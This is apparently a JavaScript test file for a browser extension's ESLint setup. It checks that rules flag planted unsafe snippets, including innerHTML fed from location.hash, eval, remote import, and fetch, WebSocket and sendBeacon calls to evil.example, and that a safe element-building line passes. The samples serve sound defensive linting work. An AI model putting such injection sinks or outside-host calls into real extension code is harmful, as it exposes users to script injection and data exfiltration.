/** The lint rules of the extension catch what they are for: each planted case is found. */

import assert from 'node:assert/strict';
import test from 'node:test';
import { ESLint } from 'eslint';

const ROOT = new URL('../..', import.meta.url).pathname;
const PLACES = ['extension/content/planted.js', 'extension/popup/planted.js', 'extension/background.js'];

/** What is planted, and the rule that has to find it. @type {[string, string][]} */
const PLANTED = [
  ['document.body.innerHTML = location.hash;', 'no-restricted-syntax'],
  ['document.body["innerHTML"] = location.hash;', 'no-restricted-syntax'],
  ['document.body.innerHTML += "x";', 'no-restricted-syntax'],
  ['document.body.outerHTML = "x";', 'no-restricted-syntax'],
  ['document.body.insertAdjacentHTML("beforeend", "x");', 'no-restricted-syntax'],
  ['document.createRange().createContextualFragment("x");', 'no-restricted-syntax'],
  ['document.body.setHTMLUnsafe("x");', 'no-restricted-syntax'],
  ['Document.parseHTMLUnsafe("x");', 'no-restricted-syntax'],
  ['new DOMParser().parseFromString("x", "text/html");', 'no-restricted-syntax'],
  ['Object.assign(document.createElement("iframe"), { srcdoc: "x" });', 'no-restricted-syntax'],
  ['document.createElement("iframe").srcdoc = "x";', 'no-restricted-syntax'],
  ['const { body } = document; body[`innerHTML`] = "x";', 'no-restricted-syntax'],
  ['Object.assign(document.body, { innerHTML: "x" });', 'no-restricted-syntax'],
  ['document.write("x");', 'no-restricted-syntax'],
  ['document["writeln"]("x");', 'no-restricted-syntax'],
  ['eval("1");', 'no-eval'],
  ['globalThis.eval("1");', 'no-eval'],
  ['new Function("return 1")();', 'no-new-func'],
  ['setTimeout("x()", 1);', 'no-implied-eval'],
  ['import("https://evil.example/x.js");', 'no-restricted-syntax'],
  ['document.createElement("script");', 'no-restricted-syntax'],
  ['fetch("https://evil.example/");', 'no-restricted-globals'],
  ['globalThis.fetch("https://evil.example/");', 'no-restricted-syntax'],
  ['window["fetch"]("https://evil.example/");', 'no-restricted-syntax'],
  ['new XMLHttpRequest();', 'no-restricted-globals'],
  ['new WebSocket("wss://evil.example/");', 'no-restricted-globals'],
  ['new EventSource("https://evil.example/");', 'no-restricted-globals'],
  ['navigator.sendBeacon("https://evil.example/");', 'no-restricted-syntax'],
];

const linter = new ESLint({ cwd: ROOT });

for (const place of PLACES) {
  test(`planted code is found in ${place}`, async () => {
    for (const [code, rule] of PLANTED) {
      const [{ messages } = { messages: [] }] = await linter.lintText(`${code}\n`, { filePath: ROOT + place });
      assert.ok(messages.some(({ ruleId }) => ruleId === rule), `${code}: ${JSON.stringify(messages.map(({ ruleId, message }) => [ruleId, message]))}`);
    }
  });
}

test('code that builds elements is let through', async () => {
  const code = 'document.body.append(Object.assign(document.createElement("p"), { textContent: "x" }));\n';
  const [{ messages } = { messages: [] }] = await linter.lintText(code, { filePath: `${ROOT}extension/popup/planted.js` });
  assert.deepEqual(messages, []);
});
